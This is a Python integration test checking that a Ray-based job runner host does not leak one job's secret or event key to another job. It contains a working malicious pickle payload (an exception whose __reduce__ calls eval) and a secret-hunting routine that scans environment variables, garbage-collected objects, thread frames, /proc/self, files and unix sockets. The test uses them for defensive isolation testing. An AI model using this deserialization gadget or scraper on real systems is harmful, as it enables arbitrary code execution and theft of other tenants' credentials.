"""The runner host holds no job's values (issue 46, part 4), on the real local Ray.

Ray Train hands what a run's workers report to its driver by pickle, and every `train:` job's
driver runs in the runner host (jobs/host.py). So job B's worker reports a metric whose
unpickling runs B's code, in B's controller and then in the host, while job A (holding a
secret value) runs there too. That code looks for A's value and A's event key everywhere a
process can look at itself: its environment, every object the garbage collector knows, the
locals of every thread's frames, its open files, /proc/self, and the host's folder (each
file read, each unix socket asked). It finds neither; A's workers still get the value, and
A's result, signed by A's runner, counts."""

from __future__ import annotations

import hashlib
import json
import secrets
import time

import pytest

from tests.conftest import _in_process, run_orch, status_in_process
from tests.integration.test_runner_host import host_pid, wait_ready

pytestmark = pytest.mark.integration

# Runs wherever B's metric is unpickled; appends one JSON line (its pid, what it found) to OUT.
ATTACK = r'''
import gc, json, os, re, socket, stat, sys, threading
found, hexes = [], set()
def look(where, value):
    if isinstance(value, bytes):
        value = value.decode("latin1")
    if not isinstance(value, str) or value is NEEDLE:  # its own copy, made here
        return
    if NEEDLE in value:
        found.append(where)
    if len(value) >= 64:
        hexes.update(re.findall(r"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])", value[:200000]))
def look_in(where, obj):
    try:
        look_in_(where, obj)
    except Exception:
        pass
def look_in_(where, obj):
    look(where, obj)
    if isinstance(obj, dict):
        for k, v in list(obj.items()):
            look(where, k), look(where, v)
    elif isinstance(obj, (list, tuple, set, frozenset)):
        for v in list(obj):
            look(where, v)
    elif isinstance(getattr(obj, "__dict__", None), dict):
        for v in list(obj.__dict__.values()):
            look_in(where, v) if isinstance(v, dict) else look(where, v)
HOST = "--socket" in sys.argv  # the runner host's arguments; elsewhere (its controller) no scan
look("environ", json.dumps(dict(os.environ)))
for name in ("environ", "cmdline"):
    look("/proc/self/" + name, open("/proc/self/" + name, "rb").read())
for o in gc.get_objects() if HOST else ():
    for r in gc.get_referents(o):
        look_in("gc", r)
for frame in sys._current_frames().values():
    while frame is not None:
        for v in list(frame.f_locals.values()):
            look_in("frames", v)
        frame = frame.f_back
def read(path):
    try:
        with open(path, "rb") as f:
            look("file " + path, f.read(1 << 20))
    except OSError:
        pass
def ask(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        look("socket " + path, data)
    except OSError:
        pass
    finally:
        s.close()
for fd in os.listdir("/proc/self/fd"):  # its open files (a pipe or a socket would block)
    try:
        if stat.S_ISREG(os.stat("/proc/self/fd/" + fd).st_mode):
            read("/proc/self/fd/" + fd)
    except OSError:
        pass
if "--socket" in sys.argv:
    socks = []
    for root, dirs, files in os.walk(os.path.dirname(sys.argv[sys.argv.index("--socket") + 1])):
        for name in files:
            path = os.path.join(root, name)
            try:
                sock = stat.S_ISSOCK(os.stat(path).st_mode)
            except OSError:
                continue
            socks.append(path) if sock else read(path)
    # Each socket asked at once, each given its 2 s to say something unasked: one after the
    # other, the Ray folder's dozen sockets that wait for a request took 2 s each.
    asks = [threading.Thread(target=ask, args=(path,)) for path in socks]
    for t in asks:
        t.start()
    for t in asks:
        t.join()
with open(OUT, "a") as f:
    f.write(json.dumps({"pid": os.getpid(), "argv": sys.argv, "found": sorted(set(found)), "hexes": sorted(hexes)}) + "\n")
'''

EVIL = '''
import ray.train

ATTACK = {attack!r}
TEMPLATE = "(lambda c: (exec(c, g := {{'c': c}}), g['again'])[1])(%r)"
# The needle reversed: the attack's own text must not hold what it looks for.
BODY = ("NEEDLE = {reversed!r}[::-1]\\nOUT = {out!r}\\n" + ATTACK + "\\n"
        "TEMPLATE = " + repr(TEMPLATE) + "\\n"
        "class Again(Exception):\\n    def __reduce__(self):\\n"
        "        return (eval, (TEMPLATE % c,))\\n"
        "again = Again('gift')\\n")


class Again(Exception):  # unpickled as eval(...): the attack runs, and gives an Again back
    def __reduce__(self):
        return (eval, (TEMPLATE % BODY,))


def train():
    ray.train.report({{"loss": 1.0}})
    raise Again("gift")  # the worker's error goes to its controller, then to the driver
'''

VICTIM = '''
import hashlib, os, time
import ray.train


def train(config):
    ok = hashlib.sha256(os.environ.get("A_SECRET", "").encode()).hexdigest() == config["expect"]
    ray.train.report({"secret_ok": int(ok)})
    deadline = time.time() + 240
    while not os.path.exists(config["stop"]) and time.time() < deadline:
        time.sleep(0.2)
'''


def wait_for(home, job_id, done, timeout=240) -> dict:
    deadline = time.monotonic() + timeout
    while True:
        rec = status_in_process(home, job_id)
        if done(rec):
            return rec
        assert time.monotonic() < deadline, rec
        time.sleep(1)


def test_a_workers_pickle_in_the_host_finds_no_other_jobs_value_nor_key(ray_home, tmp_path):
    wait_ready(ray_home)
    needle = "needle-" + secrets.token_hex(12)
    out, stop = tmp_path / "found.jsonl", tmp_path / "stop"
    for name, code in (("a", VICTIM), ("b", EVIL.format(attack=ATTACK, reversed=needle[::-1], out=str(out)))):
        (tmp_path / name).mkdir()
        (tmp_path / name / f"{name}job.py").write_text(code)
    (tmp_path / "a.yaml").write_text(
        f"name: victim\nworkdir: a\nsecrets: {{A_SECRET: null}}\ntrain:\n  entrypoint: ajob:train\n"
        f"  config: {{expect: {hashlib.sha256(needle.encode()).hexdigest()}, stop: '{stop}'}}\nscaling: {{num_workers: 1}}\n")
    (tmp_path / "b.yaml").write_text(
        "name: attacker\nworkdir: b\ntrain:\n  entrypoint: bjob:train\nscaling: {num_workers: 1}\n")
    proc = run_orch(ray_home, "submit", str(tmp_path / "a.yaml"), "--detach", A_SECRET=needle)
    assert proc.returncode == 0, proc.stderr[-3000:]
    victim = proc.stdout.strip()
    try:
        rec = wait_for(ray_home, victim, lambda r: r["metrics"].get("reports")
                       or r["status"] not in ("PENDING", "RUNNING"))
        assert rec["status"] == "RUNNING" and rec["metrics"].get("secret_ok") == 1, rec
        attacker = run_orch(ray_home, "submit", str(tmp_path / "b.yaml"), "--detach")
        assert attacker.returncode == 0, attacker.stderr[-3000:]
        wait_for(ray_home, attacker.stdout.strip(), lambda r: r["status"] not in ("PENDING", "RUNNING"))
        assert status_in_process(ray_home, victim)["status"] == "RUNNING"  # A ran all along
    finally:
        stop.touch()
    rec = wait_for(ray_home, victim, lambda r: r["status"] not in ("PENDING", "RUNNING"))
    assert rec["status"] == "SUCCEEDED", rec  # its result signed by its own runner
    key = _in_process(ray_home, {}, lambda local: local.orch.get(victim).info.event_key)
    assert len(key) == 64
    reports = [json.loads(line) for line in out.read_text().splitlines()] if out.exists() else []
    in_host = [r for r in reports if "--socket" in r["argv"]]  # it did run there
    assert {r["pid"] for r in in_host} <= {host_pid(ray_home)}, (reports, host_pid(ray_home))
    assert len(in_host) == 1, ([(r["argv"][:2], r["found"]) for r in reports])
    [in_host] = in_host
    assert (in_host["found"], key in in_host["hexes"]) == ([], False)  # A's value, A's key
